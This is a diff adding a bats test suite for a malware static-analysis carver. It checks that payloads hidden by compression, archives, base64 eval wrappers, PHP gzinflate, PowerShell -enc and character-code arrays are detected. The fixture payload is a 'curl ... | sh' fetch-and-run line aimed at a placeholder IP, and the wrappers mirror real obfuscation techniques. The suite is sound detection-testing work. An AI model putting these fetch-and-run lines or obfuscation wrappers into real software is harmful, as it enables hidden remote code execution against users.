@@ -1,0 +1,190 @@
+#!/usr/bin/env bats
+# What samples hide without a program that has to run: through helper-carve and mnicter micro, on payloads that no earlier run had.
+
+# shellcheck disable=SC2154 # run sets status, output, stderr and stderr_lines
+load common
+
+setup() {
+	mkdir "$TMP/w"
+	cd "$TMP/w" || exit
+	printf '#!/bin/sh\n# inert %s\ncurl -s http://198.51.100.7/%s | sh\necho settled\n' "$RANDOM" "$RANDOM" >payload
+	PAYLOAD=$(sha256sum <payload | cut -c1-64)
+}
+
+carve() { "$LIBEXEC/helper-carve" 3<"$1" 4>bytes >found.json; }
+
+holds() {   # FILE CODING...: the payload is found in it, by these one in the other
+	carve "$1" || return
+	jq -e --arg want "$PAYLOAD" --args '
+		.pieces as $p | def chain: if . == null then [] else ($p[.].parent | chain) + [$p[.].coding] end;
+		any($p | to_entries[]; .value.sha256 == $want and .value.what == "script" and (.key | chain) == $ARGS.positional)' "${@:2}" <found.json >/dev/null ||
+		{ echo "$1 shows no ${*:2}"; jq -c . found.json; return 1; }
+}
+
+analyse() {   # FILE: its members in ./out
+	rm -rf out
+	mkdir out
+	mscan -q -f "$1" | mpack -q -p | mnicter micro -q --static >out.case
+	bsdtar -xf out.case -C out --strip-components 2 'code/*'
+	chmod -R u+r out
+}
+
+behind() {   # COMMAND...: a script with the payload behind it, through COMMAND
+	printf '#!/bin/sh\ntail -n +3 "$0" | run\n'
+	"$@" <payload
+}
+
+@test "the seeds of the fuzz target: each coding is found" {
+	for seed in "$ROOT"/t/fuzz/seeds/carve/*; do
+		carve "$seed"
+		jq -e '.pieces[0].member' found.json >/dev/null || { echo "$seed"; return 1; }
+	done
+}
+
+@test "compressed behind a script, whatever follows" {
+	local coding
+	for coding in gzip xz zstd lz4; do
+		behind "$coding" -c >plain
+		holds plain "$coding"
+		{ cat plain; echo "and something behind"; } >more
+		holds more "$coding"
+	done
+	behind xz --format=lzma -c >lzma
+	holds lzma lzma
+	behind sh -c 'gzip -c | gzip -c' >twice
+	holds twice gzip gzip
+}
+
+@test "in archives behind a script: programs first, texts after them" {
+	local format
+	mkdir tree tree/bin
+	cp payload tree/bin/settle
+	cp "$(type -P true)" tree/bin/program
+	echo "read this before anything else, it says nothing" >tree/README
+	for format in ustar cpio zip 7zip; do
+		{ printf '#!/bin/sh\n'; bsdtar -cf - --format "$format" -C tree README bin; } >"$format"
+		holds "$format" "${format/ustar/tar}"
+		jq -e '[.pieces[].what] == ["script", "program", "text"] or [.pieces[].what] == ["program", "script", "text"]' found.json
+		jq -e 'any(.pieces[]; .name == "bin/settle")' found.json
+	done
+	{ printf '#!/bin/sh\n'; bsdtar -czf - -C tree README bin; } >makeself
+	holds makeself gzip tar
+	{ printf '#!/bin/sh\n'; bsdtar -cjf - -C tree README bin; } >bzipped
+	holds bzipped bzip2 tar
+	{ cat tree/bin/program; bsdtar -cf - --format zip -C tree bin/settle; } >sfx
+	holds sfx zip
+}
+
+@test "as text: in lines, from its end, turned, deflated, of 16 bits" {
+	local text
+	text=$(base64 -w 0 payload)
+	printf '#!/bin/sh\neval "$(echo %s | base64 -d)"\n' "$text" >one
+	holds one base64
+	{ printf 'base64 -d <<. | sh\n'; base64 -w 60 payload; printf '.\nfinish\n'; } >lines
+	holds lines base64
+	printf 'exec("%s"[::-1])\n' "$(rev <<<"$text")" >back
+	holds back base64-reversed
+	printf "x = '%s'\n" "$(tr 'A-Za-z' 'N-ZA-Mn-za-m' <<<"$text")" >turned
+	holds turned base64-rot13
+	printf "x = '%s'\n" "$(tr '+/' '-_' <<<"$text")" >url
+	holds url base64
+	printf "x = '%s'\n" "$(base32 -w 0 payload)" >base32
+	holds base32 base32
+	printf "x = '%s'\n" "$(od -An -v -tx1 payload | tr -d ' \n')" >hex
+	holds hex hex
+	# A gzip header of ten bytes and eight behind: what is between is what gzinflate() takes.
+	printf "<?php eval(gzinflate(base64_decode('%s')));\n" "$(gzip -nc payload | tail -c +11 | head -c -8 | base64 -w 0)" >deflate
+	holds deflate base64-deflate
+	printf 'powershell -enc %s\n' "$(iconv -t utf-16le payload | base64 -w 0)" >wide
+	holds wide base64 utf-16le
+}
+
+@test "as numbers: of each notation" {
+	od -An -v -tu1 -w1 payload | tr -d ' ' | paste -sd, >numbers
+	printf 'eval(String.fromCharCode(%s))\n' "$(cat numbers)" >js
+	holds js decimal-numbers
+	printf '<?php eval(chr(%s));\n' "$(sed 's/,/).chr(/g' numbers)" >php
+	holds php decimal-numbers
+	printf '<a title="&#%s;">\n' "$(sed 's/,/;\&#/g' numbers)" >html
+	holds html decimal-numbers
+	printf 'char x[] = { %s };\n' "$(od -An -v -tx1 payload | tr -d '\n' | sed 's/ /, 0x/g; s/^, //')" >c
+	holds c hex-numbers
+	printf "printf '%s' | sh\n" "$(od -An -v -to1 payload | tr -d '\n' | sed 's/ /\\/g')" >sh
+	holds sh octal-escapes
+	printf "unescape('%s')\n" "$(od -An -v -tx1 payload | tr -d '\n' | sed 's/ /%/g')" >js
+	holds js percent
+}
+
+@test "one in the other, six deep" {
+	base64 -w 0 payload | sed "s/.*/x = '&' # run/" | gzip -c | base64 -w 0 | sed "s/.*/y = '&' # run/" | xz -c >inner
+	{ printf '#!/bin/sh\n'; cat inner; } >outer
+	holds outer xz base64 gzip base64
+}
+
+@test "a program that the machine has hides nothing worth a sign" {
+	for program in true ls bash grep; do
+		carve "$(type -P "$program")"
+		jq -e '.pieces == []' found.json || { jq -c . found.json; return 1; }
+	done
+}
+
+@test "decoys end in a finding, not in hours; no archive opens a file" {
+	local magic
+	for magic in '\xfd7zXZ\0' 'PK\3\4' '!<arch>\n' 'BZh91AY&SY' '\x28\xb5\x2f\xfd' '\x1f\x8b\x08' '7z\xbc\xaf\x27\x1c' 'MSCF\0\0\0\0' 'Rar!\x1a\x07\0' '070701' 'MZ' '\x7fELF\2\1\1'; do
+		printf "$magic" >one
+		for _ in {1..15}; do cat one one >two; mv two one; done
+		run -0 timeout 60 "$LIBEXEC/helper-carve" 3<one 4>bytes
+		jq -e '.pieces == []' <<<"$output"
+	done
+}
+
+@test "mnicter: what is hidden is kept, described, and counts" {
+	local program
+	printf '#!/bin/sh\neval "$(echo %s | base64 -d)"\n' "$(base64 -w 0 payload)" >sample
+	analyse sample
+	jq -e '.carved.pieces | length == 1 and .[0].coding == "base64" and .[0].what == "script"' out/static.json
+	cmp payload "out/embedded/$PAYLOAD"
+	bsdtar -tvf out.case | grep -q "^---------- .*/embedded/$PAYLOAD\$"
+	jq -e --arg p "$PAYLOAD" '.embedded[0] | .sha256 == $p and .format == "script"' out/static.json
+	jq -e 'any(.signs[]; .name == "code-in-text")' out/static.json
+	jq -e 'any(.indicators[]; .kind == "url" and (.value | startswith("http://198.51.100.7/")) and (.from | startswith("embedded.strings:")))' out/static.json
+	jq -e 'any(.capabilities[]; .name == "fetch-and-run")' out/static.json
+	jq -e 'any(.reasons[]; .sign == "code-in-text") and any(.reasons[]; .sign == "fetch-and-run")' out/verdict.json
+
+	program=$(type -P true)
+	{ printf '#!/bin/sh\ntail -n +3 "$0" | gzip -d >/dev/null\n'; gzip -c "$program"; } >sfx
+	analyse sfx
+	jq -e 'any(.signs[]; .name == "script-with-program") and all(.signs[]; .name != "code-in-text")' out/static.json
+	cmp "$program" "out/embedded/$(sha256sum <"$program" | cut -c1-64)"
+}
+
+@test "mnicter: the same twice, and nothing of it where nothing hides" {
+	printf '#!/bin/sh\necho %s | base64 -d | sh\n' "$(base64 -w 0 payload)" >sample
+	analyse sample
+	mv out first
+	analyse sample
+	diff first/static.json out/static.json
+	printf '#!/bin/sh\necho nothing to see\n' >plain
+	analyse plain
+	jq -e '(has("carved") or has("embedded")) | not' out/static.json
+	[ ! -e out/embedded ]
+}
+
+@test "a carver that crashes, stalls or lies is a finding about the sample" {
+	mkdir -p b/bin b/libexec/muss
+	cp "$BIN/mnicter" b/bin/
+	cp "$LIBEXEC/helper-static" b/libexec/muss/
+	export MUSS_SHARE=$ROOT/rules
+	mscan -q -f payload | mpack -q -p >in.case
+	for how in SEGV:crashed SYS:refused XCPU:timeout; do
+		printf '#!/bin/sh\nkill -%s $$\n' "${how%:*}" >b/libexec/muss/helper-carve
+		chmod 755 b/libexec/muss/helper-carve
+		run -0 --separate-stderr b/bin/mnicter micro --static -o out.case in.case
+		bsdtar -xOf out.case 'code/*/static.json' | jq -e --arg how "${how#*:}" '.carved.stopped == $how and .carved.pieces == []'
+	done
+	printf '#!/bin/sh\necho %s\n' "'"'{"pieces":[7,{},{"member":"body"},{"member":"embedded/x","offset":0,"size":9,"sha256":"x","what":"program","coding":"xor","parent":0}]}'"'" >b/libexec/muss/helper-carve
+	run -0 --separate-stderr b/bin/mnicter micro --static -o out.case in.case
+	run ! grep -q embedded <(bsdtar -tf out.case)
+	printf '#!/bin/sh\necho "no seccomp" >&2; exit 69\n' >b/libexec/muss/helper-carve
+	fails 69 b/bin/mnicter micro --static -o out.case in.case
+}
